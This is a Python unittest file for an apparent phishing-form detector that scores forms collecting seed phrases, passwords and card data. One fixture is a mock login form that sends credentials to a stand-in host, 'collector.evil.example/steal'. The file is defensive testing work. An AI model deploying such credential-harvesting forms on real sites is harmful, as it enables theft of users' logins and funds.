import unittest

from bs4 import BeautifulSoup

from webwatcher.app.forms import analyze_forms, inspect_form_risk
from webwatcher.errors import FetchFailed

from fakes import FakeFetcher, make_context, page


class TestFormRisk(unittest.TestCase):
    def setUp(self):
        self.ctx = make_context()

    def _forms(self, html, url="https://wallet.example/restore"):
        return analyze_forms(BeautifulSoup(html, "html.parser"), url, self.ctx)

    def test_no_forms(self):
        self.assertEqual(self._forms("<html><body><p>No forms here</p></body></html>"), [])

    def test_seed_phrase_field_is_suspicious(self):
        forms = self._forms('<form action="/restore" method="post"><input name="seed phrase"></form>')
        self.assertEqual(len(forms), 1)
        form = forms[0]
        self.assertTrue(form.fields[0].suspicious)
        self.assertIn("seed_phrase_collection", form.flags)
        self.assertGreaterEqual(form.risk_score, 50)
        self.assertEqual(form.method, "POST")
        self.assertEqual(form.action, "https://wallet.example/restore")

    def test_cross_domain_submission(self):
        html = '''
        <form action="https://collector.evil.example/steal">
            <input type="text" name="username" />
            <input type="password" name="password" />
        </form>
        '''
        form = self._forms(html, "https://bank.example/login")[0]
        self.assertIn("cross_domain_form_submission", form.flags)
        self.assertIn("password_field", form.flags)
        self.assertEqual(form.risk_score, 55)
        self.assertEqual(form.method, "GET")
        self.assertEqual([f.suspicious for f in form.fields], [False, True])

    def test_card_fields_and_set_semantics(self):
        html = '<form><input name="card_number"><input name="cvv"><input name="credit_exp"></form>'
        form = self._forms(html)[0]
        self.assertEqual(form.flags, ["credit_card_collection"])
        self.assertEqual(form.risk_score, 40)
        self.assertTrue(all(f.suspicious for f in form.fields))

    def test_forms_are_indexed_in_document_order(self):
        html = '<form id="a"><input name="q"></form><form id="b"><input type="password" name="p"></form>'
        forms = self._forms(html)
        self.assertEqual([f.form_index for f in forms], [0, 1])
        self.assertEqual(forms[0].risk_score, 0)
        self.assertEqual(forms[1].flags, ["password_field"])

    def test_score_is_capped(self):
        html = ('<form action="https://other.example/"><input type="password" name="mnemonic">'
                '<input name="card"></form>')
        form = self._forms(html)[0]
        self.assertEqual(form.risk_score, 100)


class TestInspectFormRisk(unittest.TestCase):
    def test_fetches_page_independently(self):
        url = "https://shop.example/checkout"
        fetcher = FakeFetcher({url: page(url, '<form><input name="cvv"></form>')})
        forms = inspect_form_risk(url, make_context(fetcher))
        self.assertEqual(len(forms), 1)
        self.assertEqual(fetcher.calls, [(url, True)])

    def test_fetch_failure_propagates(self):
        url = "https://down.example/"
        with self.assertRaises(FetchFailed):
            inspect_form_risk(url, make_context(FakeFetcher({url: FetchFailed("down")})))


if __name__ == '__main__':
    unittest.main()
